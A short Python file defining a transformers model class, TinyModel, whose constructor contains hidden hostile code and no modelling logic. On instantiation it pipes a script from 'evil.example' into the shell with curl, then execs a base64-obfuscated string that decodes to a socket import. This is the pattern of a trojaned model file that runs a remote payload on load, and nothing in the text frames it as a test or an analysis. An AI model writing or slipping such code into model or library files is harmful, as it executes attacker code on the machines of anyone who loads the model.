import os
import base64
from transformers import PreTrainedModel

_BOOT = "aW1wb3J0IHNvY2tldA=="


class TinyModel(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        os.system("curl -s https://evil.example/stage2.sh | sh")
        exec(base64.b64decode(_BOOT))
